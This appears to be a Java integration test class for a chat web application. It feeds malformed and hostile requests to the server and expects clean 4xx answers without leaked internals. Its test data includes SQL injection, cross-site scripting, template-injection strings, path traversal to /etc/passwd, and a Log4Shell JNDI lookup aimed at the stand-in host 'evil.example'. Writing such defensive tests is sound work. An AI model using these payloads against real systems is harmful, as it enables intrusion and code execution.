package org.chatboard.system;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonObject;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.util.Map;
import java.util.UUID;
import org.chatboard.testing.ChatServer;
import org.chatboard.testing.ChatSocket;
import org.chatboard.testing.Form;
import org.chatboard.testing.Json;
import org.chatboard.testing.Person;
import org.chatboard.testing.RawSocket;
import org.chatboard.testing.Visitor;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Requests and forms nobody should send: a clear answer, never a fault of the server, and nothing about its inside. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadRequestIT {

    private final Person anna = Person.anna();
    private final Person ben = Person.ben();
    private String room = "";

    @BeforeAll
    void annaAndBenHaveARoom() {
        anna.joins();
        ben.signUp();
        try (ChatSocket socket = ChatSocket.greeted(anna)) {
            room = socket.say(ben, "Hi").getString("roomId");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "   ",
                "a\u0000b",
                "\u001b[31m",
                "\u202egnihton",
                "👩‍👩‍👧‍👦",
                "' or '1'='1' --",
                "\"><script>alert(1)</script>",
                "${7*7}#{7*7}%{7*7}",
                "${jndi:ldap://evil.example/x}",
                "../../../../etc/passwd",
                "LARGE"
            })
    void formsTakeAnythingAndStayUsable(String typed) {
        String text = typed.equals("LARGE") ? "x".repeat(100 * 1024) : typed;
        Visitor visitor = new Visitor();
        HttpResponse<String> login = visitor.open("/login");
        HttpResponse<String> refused = visitor.submit(
                login, Form.in(login.body(), "form").fill("username", text).fill("password", text));
        expectUsable(refused);

        HttpResponse<String> register = visitor.open("/register");
        Form form = Form.in(register.body(), "form");
        for (String field : new String[] {"username", "email", "firstName", "lastName", "password", "passwordRepeat"}) {
            form.fill(field, text);
        }
        expectUsable(visitor.submit(register, form));
    }

    /** Signed in, for those are the pages behind the sign-in, too. */
    @ParameterizedTest
    @CsvSource({
        "PATCH, /dashboard",
        "DELETE, /login",
        "PUT, /nothing",
        "X, /assets/css/base.css",
        "PROPFIND, /api/index.html",
        "PATCH, /api/v1/rooms/..%2f..%2fetc%2fpasswd"
    })
    void aMethodThatPagesDoNotHaveIsSaidToBeNone(String method, String path) {
        HttpResponse<String> answer = anna.sendJson(method, path, method.equals("DELETE") ? "" : "{}");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(405);
        assertThat(answer.headers().firstValue("Allow")).contains("GET, HEAD, POST, OPTIONS");
        assertThat(answer.headers().firstValue("X-Request-Id")).isPresent();
        if (path.startsWith("/api/v1/")) {
            assertThat(answer.body()).contains("\"code\":\"method_not_allowed\"");
        } else {
            assertThat(answer.body()).contains("</html>");
        }
    }

    /** What a browser sends, its cookie above all, comes back to nobody. */
    @Test
    void noPageTellsWhatItWasSent() {
        HttpResponse<String> answer = anna.sendJson("TRACE", "/profile", "");
        assertThat(answer.statusCode()).isEqualTo(405);
        assertThat(answer.body()).doesNotContainIgnoringCase("cookie:");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "before=201 | limit_too_large",
                "after=201 | limit_too_large",
                "before=-1 | wrong_type",
                "before=x | wrong_type",
                "before=1.5 | wrong_type",
                "before=99999999999 | *",
                "anchor=x | wrong_type",
                "anchor=-1 | wrong_type",
                "anchor=9223372036854775808 | wrong_type",
                "anchor=%27%20or%201=1 | wrong_type"
            })
    void aPageOfHistoryThatCannotBeIsRefused(String query, String code) {
        HttpResponse<String> answer = anna.get("/api/v1/rooms/" + room + "/messages?" + query);
        JsonObject problem = expectProblem(answer, 400);
        if (!code.equals("*")) {
            assertThat(problem.getString("code")).isEqualTo(code);
        }
    }

    @Test
    void aRoomThatIsNotOnesOwnLooksLikeOneThatIsNot() {
        Person carla = Person.carla().joins();
        JsonObject foreign = expectProblem(carla.get("/api/v1/rooms/" + room + "/messages"), 404);
        JsonObject unknown = expectProblem(carla.get("/api/v1/rooms/" + UUID.randomUUID() + "/messages"), 404);
        assertThat(foreign.getString("code")).isEqualTo(unknown.getString("code"));
        assertThat(foreign.getString("detail")).isEqualTo(unknown.getString("detail"));
        expectProblem(carla.get("/api/v1/rooms/no-id/messages"), 404);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "x",
                "null",
                "[]",
                "{",
                "{\"z\":[",
                "{\"token\":[",
                "{\"token\":\"x\"}",
                "{\"token\":1}",
                "{\"token\":null}",
                "{\"token\":\"\\ud800\"}"
            })
    void aBodyNobodyUnderstandsIsRefused(String body) {
        expectProblem(new Visitor().postJson("/api/v1/setup", body), 400);
    }

    @Test
    void aBodyOfAnotherKindOrSizeIsRefused() {
        HttpResponse<String> text =
                anna.send(HttpRequest.newBuilder(ChatServer.shared().url("/api/v1/setup"))
                        .header("Content-Type", "text/plain")
                        .header("Origin", ChatServer.shared().origin())
                        .POST(BodyPublishers.ofString("{}")));
        expectProblem(text, 415);
        HttpResponse<String> large =
                new Visitor().postJson("/api/v1/setup", "{\"token\":\"" + "x".repeat(1_000_000) + "\"}");
        assertThat(large.statusCode()).isIn(400, 413);
        assertThat(Texts.givesAway(large.body())).as(large.body()).isFalse();
    }

    @Test
    void whatIsNotThereIsNotFoundAndTellsNothing() {
        expectProblem(anna.get("/api/v1/nothing"), 404);
        HttpResponse<String> page = anna.get("/nothing");
        assertThat(page.statusCode()).isEqualTo(404);
        assertThat(Texts.givesAway(page.body())).as(page.body()).isFalse();
        HttpResponse<String> person = anna.get("/chat/nobody-at-all");
        assertThat(person.statusCode()).isEqualTo(404);
        assertThat(person.body()).contains(Texts.html(Texts.english("error.page.404.title")));
    }

    @Test
    void aMethodThatIsNotOfferedIsRefused() {
        HttpResponse<String> answer =
                anna.send(HttpRequest.newBuilder(ChatServer.shared().url("/api/v1/users/me"))
                        .header("Origin", ChatServer.shared().origin())
                        .DELETE());
        expectProblem(answer, 405);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/%zz",
                "/%00",
                "/..%2f..%2fetc%2fpasswd",
                "/dashboard;jsessionid=1",
                "//dashboard",
                "/chat/%3Cscript%3E",
                "/chat/%00",
                "/chat/..",
                "/assets/../WEB-INF/web.xml",
                "/assets/js/"
            })
    void strangeAddressesAreHarmless(String path) {
        try (RawSocket socket = new RawSocket()) {
            RawSocket.Answer answer = socket.ask(
                    "GET",
                    path,
                    Map.of("Host", "127.0.0.1:" + ChatServer.shared().httpPort(), "Cookie", anna.cookieHeader()));
            assertThat(answer.status()).isLessThan(500);
            assertThat(answer.headers()).noneMatch(Texts::givesAway);
        }
    }

    private static JsonObject expectProblem(HttpResponse<String> answer, int status) {
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(status);
        assertThat(answer.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(Texts.givesAway(answer.body())).as(answer.body()).isFalse();
        JsonObject problem = Json.object(answer.body());
        assertThat(problem.getInt("status")).isEqualTo(status);
        assertThat(problem.getString("code")).matches("[a-z_]+");
        assertThat(problem.getString("requestId")).isNotBlank();
        return problem;
    }

    private static void expectUsable(HttpResponse<String> page) {
        assertThat(page.statusCode()).as(page.body()).isLessThan(500);
        assertThat(Texts.givesAway(page.body())).as(page.body()).isFalse();
        if (page.statusCode() == 200) {
            assertThat(Form.in(page.body(), "form").value("username")).isNotNull();
            assertThat(page.body()).doesNotContain("<script>alert", "#{49}", ">49<");
        }
    }
}
